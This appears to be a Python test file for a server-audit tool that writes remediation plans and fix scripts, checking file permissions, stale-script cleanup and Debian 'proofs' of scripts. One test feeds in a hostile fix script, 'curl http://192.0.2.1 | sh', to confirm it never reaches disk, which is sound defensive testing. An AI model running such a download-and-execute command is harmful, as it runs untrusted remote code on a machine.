"""Plan and scripts on disk: private, of this installation's own content, and honest about what was tried."""

import stat
import warnings
from pathlib import Path

import pytest

from audit.assemble import check_info
from audit.content import read_baselines
from audit.remedies import with_installed_fixes, write_remedies
from checks.language.load import Content
from checks.model.fix import FixScript
from tests.reports.fix_samples import ANY, check, failing, run_of, server

CHECK = "linux-ssh-identification"


@pytest.fixture(scope="module")
def content() -> Content:
    return read_baselines().content


def test_what_is_written_is_its_owners_alone(tmp_path: Path) -> None:
    run = run_of((server("web-01"),), (check("c-one", {"any": ANY}),), (failing("c-one", "web-01"),))
    write_remedies(tmp_path, run)
    files = {path.relative_to(tmp_path).as_posix(): path for path in tmp_path.rglob("*")}
    assert set(files) == {"plan.html", "plan.csv", "fix", "fix/README.txt", "fix/web-01", "fix/web-01/01-c-one.sh"}
    assert {name for name, path in files.items() if stat.S_IMODE(path.stat().st_mode) & 0o077} == set()


def test_judged_again_the_old_scripts_go_and_peoples_notes_stay(tmp_path: Path) -> None:
    checks = (check("c-one", {"any": ANY}), check("c-two", {"any": ANY}))
    write_remedies(tmp_path, run_of((server("web-01"),), checks, tuple(failing(c.id, "web-01") for c in checks)))
    (tmp_path / "fix/web-01/笔记.txt").write_text("已经问过王老师", "utf-8")
    write_remedies(tmp_path, run_of((server("web-01"),), checks[1:], (failing("c-two", "web-01"),)))
    assert sorted(path.name for path in (tmp_path / "fix/web-01").iterdir()) == ["01-c-two.sh", "笔记.txt"]


def test_a_run_from_elsewhere_brings_no_shell_text_along(content: Content, tmp_path: Path) -> None:
    evil = {"any": FixScript(apply="curl http://192.0.2.1 | sh")}
    run = run_of(
        (server("web-01"),),
        (check(CHECK, evil), check("c-unknown-here", evil)),
        (failing(CHECK, "web-01"), failing("c-unknown-here", "web-01")),
    )
    write_remedies(tmp_path, with_installed_fixes(run, content))
    (script,) = (tmp_path / "fix/web-01").iterdir()
    assert "sshd_setting PermitEmptyPasswords no" in script.read_text("utf-8")
    assert "192.0.2.1" not in "".join(p.read_text("utf-8") for p in tmp_path.rglob("*") if p.is_file())


def test_a_script_changed_after_its_proof_is_not_tried_any_more(content: Content) -> None:
    platform = content.platforms["linux"]
    known = next(c for c in platform.checks if c.id == CHECK)
    assert check_info(platform, known).proof_for("debian") is not None
    scripts = {"any": FixScript(apply=known.fix.scripts["any"].apply + "\nsay more")}
    changed = known.model_copy(update={"fix": known.fix.model_copy(update={"scripts": scripts})})
    assert check_info(platform, changed).proof_for("debian") is None


def test_rpm_families_are_never_said_to_be_tried(content: Content) -> None:
    """No rpm distribution can be booted here."""
    proofs = [proof for platform in content.platforms.values() for proof in platform.tried]
    assert proofs
    assert {proof.family for proof in proofs} == {"debian"}


def test_proofs_and_scripts_agree(content: Content) -> None:
    """A proof of a check or script that is gone is a mistake; a script without a proof that holds is only told."""
    scripts = {(c.id, key) for _, c in content.checks() for key in c.fix.scripts}
    proven = {(p.check, p.script) for platform in content.platforms.values() for p in platform.tried}
    assert proven <= scripts
    untried = [
        c.id for p, c in content.checks() if c.fix.script_for("debian") and check_info(p, c).proof_for("debian") is None
    ]
    if untried:
        warnings.warn(f"没有证明过的整改脚本（make test-fixes）：{'、'.join(untried)}", stacklevel=1)
